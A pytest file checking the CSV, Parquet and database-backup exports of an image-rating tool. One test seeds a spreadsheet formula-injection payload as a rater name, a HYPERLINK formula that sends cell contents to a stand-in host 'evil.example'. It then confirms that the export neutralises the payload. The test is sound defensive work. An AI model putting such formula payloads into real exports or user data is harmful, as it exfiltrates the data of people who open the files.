import io
import sqlite3

import pandas as pd

from core.exports import database_backup, judgments_csv, judgments_parquet
from core.store import Answer, NewImage, Store


def test_exports_hold_every_row_with_rater_sides_and_outcome(file_store, tmp_path):
    dataset = file_store.datasets.ensure("d")
    a, b = (
        file_store.images.add(NewImage(dataset, f"h{i}", "x.png", 4, 4, "train"))[0]
        for i in range(2)
    )
    rater = file_store.raters.ensure("Dr Chen")
    file_store.judgments.append(Answer(a, b, "left", rater, response_ms=900))
    file_store.judgments.undo_last(rater)
    for frame in (
        pd.read_csv(io.BytesIO(judgments_csv(file_store))),
        pd.read_parquet(io.BytesIO(judgments_parquet(file_store))),
    ):
        assert list(frame["outcome"]) == ["left", "undone"]
        assert list(frame["rater"]) == ["Dr Chen", "Dr Chen"]
        assert frame.loc[0, "left_image_id"] == a and frame.loc[1, "supersedes"] == 1
    backup = tmp_path / "copy.db"
    backup.write_bytes(database_backup(file_store))
    with sqlite3.connect(backup) as conn:
        assert conn.execute("SELECT COUNT(*) FROM judgments").fetchone()[0] == 2
    with Store(backup) as restored:
        assert restored.images.count() == 2


def test_formula_names_and_comments_are_neutralised_in_both_formats(file_store):
    dataset = file_store.datasets.ensure("d")
    a, b = (
        file_store.images.add(NewImage(dataset, f"h{i}", "x.png", 4, 4, "train"))[0]
        for i in range(2)
    )
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    rater = file_store.raters.ensure(hostile)
    file_store.judgments.append(Answer(a, b, "left", rater, comment="@SUM(1+1)"))
    file_store.judgments.append(Answer(b, a, "right", file_store.raters.ensure("Dr Ok")))
    for frame in (
        pd.read_csv(io.BytesIO(judgments_csv(file_store))),
        pd.read_parquet(io.BytesIO(judgments_parquet(file_store))),
    ):
        assert frame.loc[0, "rater"] == "'" + hostile
        assert frame.loc[0, "comment"] == "'@SUM(1+1)"
        assert frame.loc[1, "rater"] == "Dr Ok"  # harmless text is left as it is
        assert frame.loc[0, "left_image_id"] == a  # numbers are not touched


def test_judgments_exports_carry_the_blinding_with_the_documented_dtypes(file_store):
    from core.exports.tables import JUDGMENTS

    dataset = file_store.datasets.ensure("d")
    a, b, c = (
        file_store.images.add(NewImage(dataset, f"h{i}", "x.png", 4, 4, "train"))[0]
        for i in range(3)
    )
    rater = file_store.raters.ensure("Dr Chen")
    file_store.judgments.append(Answer(a, b, "left", rater, blinding="dates_and_grades"))
    file_store.judgments.append(Answer(b, c, "right", rater))  # stored without: unknown
    documented = {column.name: column.dtype for column in JUDGMENTS}
    csv = pd.read_csv(io.BytesIO(judgments_csv(file_store)), dtype=documented)
    parquet = pd.read_parquet(io.BytesIO(judgments_parquet(file_store)))
    for frame in (csv, parquet):
        assert list(frame.columns) == list(documented)
        assert frame.loc[0, "blinding"] == "dates_and_grades"
        assert pd.isna(frame.loc[1, "blinding"])
    assert {name: str(parquet[name].dtype) for name in documented} == documented
